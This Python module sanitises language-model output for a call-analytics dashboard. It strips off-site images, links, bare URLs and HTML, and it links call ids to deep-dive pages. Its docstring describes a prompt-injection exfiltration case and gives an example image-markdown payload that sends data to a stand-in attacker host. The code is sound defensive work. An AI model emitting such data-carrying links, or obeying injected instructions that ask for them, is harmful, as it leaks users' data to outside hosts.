"""Make model output safe to render as Markdown, and link the call ids it cites.

An injected instruction can make a model write an image or a link whose URL carries data
(``![x](https://evil.example/?q=<rows>)``): the analyst's browser would fetch the image at once,
or send the data when the link is clicked. :func:`safe_markdown` therefore neutralises every
image, inline or reference link, autolink, bare URL and raw HTML tag whose target is not the
dashboard itself, keeping the visible text. Call ids become deep-dive links (``?call=<id>``),
which point to the app and are therefore kept.

Never render model output with ``unsafe_allow_html``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import quote, urlsplit

#: ViciDial recording names (``YYYYMMDD-HHMMSS_<phone or id>``), the usual call ids.
CALL_ID_PATTERN = re.compile(r"(?<![\w/=?&%-])(\d{8}-\d{6}_\d{3,20})(?![\w-])")

_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_REF_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\[([^\]\n]{0,200})\]")
_REF_DEF = re.compile(r"^\s{0,3}\[([^\]\n]+)\]:\s*(\S+).*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}):[^<>\s]*)>")
_HTML_TAG = re.compile(r"</?[a-zA-Z][^<>]*>")
_BARE_URL = re.compile(r"(?<![`(<\w])((?:https?|ftp|file|data|javascript)://?[^\s)<>`]+|www\.[^\s)<>`]+)", re.I)
_CODE_SPAN = re.compile(r"(```.*?```|`[^`\n]*`)", re.S)


def is_app_url(url: str, app_base_url: str = "") -> bool:
    """True for links into the dashboard: ``?call=...``, ``/path`` on the same site, or ``app_base_url``."""
    url = url.strip()
    if not url:
        return False
    if url.startswith("?") or (url.startswith("/") and not url.startswith("//")):
        return True
    if url.startswith("#"):
        return True
    if not app_base_url:
        return False
    base = urlsplit(app_base_url)
    target = urlsplit(url)
    if target.scheme.lower() not in ("http", "https") or not target.netloc:
        return False
    same_site = (target.scheme.lower(), target.netloc.lower()) == (base.scheme.lower(), base.netloc.lower())
    return same_site and (target.path or "/").startswith(base.path or "/")


def _host(url: str) -> str:
    try:
        return urlsplit(url).netloc or url[:40]
    except ValueError:
        return url[:40]


def _neutralise(text: str, app_base_url: str) -> str:
    def image(m: re.Match[str]) -> str:
        return f"[image removed: {m.group(1) or 'untitled'}]"

    def link(m: re.Match[str]) -> str:
        label, url = m.group(1), m.group(2)
        if is_app_url(url, app_base_url):
            return m.group(0)
        return f"{label} (link to {_host(url)} removed)" if url else label

    def ref_def(m: re.Match[str]) -> str:
        return m.group(0) if is_app_url(m.group(2), app_base_url) else f"[{m.group(1)}]: (link removed)"

    def autolink(m: re.Match[str]) -> str:
        return m.group(0) if is_app_url(m.group(1), app_base_url) else f"`{m.group(1)}`"

    def bare(m: re.Match[str]) -> str:
        return m.group(0) if is_app_url(m.group(1), app_base_url) else f"`{m.group(1)}`"

    text = _IMAGE.sub(image, text)
    text = _REF_IMAGE.sub(lambda m: f"[image removed: {m.group(1) or 'untitled'}]", text)
    text = _LINK.sub(link, text)
    text = _REF_DEF.sub(ref_def, text)
    text = _AUTOLINK.sub(autolink, text)
    text = _HTML_TAG.sub(lambda m: m.group(0).replace("<", "&lt;").replace(">", "&gt;"), text)
    # bare URLs would be auto-linked; wrap them in code spans (outside existing code)
    parts = _CODE_SPAN.split(text)
    return "".join(p if i % 2 else _BARE_URL.sub(bare, p) for i, p in enumerate(parts))


def deep_dive_url(call_id: str, app_base_url: str = "") -> str:
    """The deep-dive link of ``call_id``: ``<app_base_url>?call=<id>`` (relative without a base)."""
    return f"{app_base_url.rstrip('/') + '/' if app_base_url else ''}?call={quote(call_id, safe='')}"


def link_call_ids(text: str, *, known_ids: Iterable[str] = (), app_base_url: str = "") -> str:
    """Turn call ids in ``text`` into Markdown links to the deep dive.

    Ids matching :data:`CALL_ID_PATTERN` and any of ``known_ids`` (ids the tools returned) are
    linked; ids already inside a link or a code span are left alone.
    """
    known = sorted({k for k in known_ids if k and len(k) >= 6 and not k.isdigit()}, key=len, reverse=True)
    alternatives = [CALL_ID_PATTERN.pattern]
    if known:
        alternatives.append(r"(?<![\w/=?&%-])(" + "|".join(re.escape(k) for k in known) + r")(?![\w-])")
    pattern = re.compile("|".join(alternatives))

    def repl(m: re.Match[str]) -> str:
        call_id = next(g for g in m.groups() if g)
        return f"[{call_id}]({deep_dive_url(call_id, app_base_url)})"

    return _outside_code_and_links(text, lambda part: pattern.sub(repl, part))


def _outside_code_and_links(text: str, fn) -> str:
    """Apply ``fn`` to the parts of ``text`` outside code spans and existing Markdown links."""
    out = []
    for i, part in enumerate(_CODE_SPAN.split(text)):
        if i % 2:
            out.append(part)
            continue
        pieces = re.split(r"(\[[^\]\n]*\]\([^)\n]*\))", part)
        out.append("".join(p if j % 2 else fn(p) for j, p in enumerate(pieces)))
    return "".join(out)


def safe_markdown(text: str, *, app_base_url: str = "", known_ids: Iterable[str] = ()) -> str:
    """Model output made safe to pass to ``st.markdown`` (see the module docstring).

    Parameters
    ----------
    text : str
        Markdown written by the model (may be partial while streaming).
    app_base_url : str
        The dashboard's public base URL (``[claude] app_base_url``); links elsewhere are removed.
    known_ids : iterable of str
        Call ids the tools returned, linked to the deep dive in addition to ViciDial-style ids.
    """
    # images and links are removed everywhere, code spans included: a backtick inside a link
    # destination does not stop a Markdown renderer from making the link
    cleaned = _neutralise(text, app_base_url)
    return link_call_ids(cleaned, known_ids=known_ids, app_base_url=app_base_url)
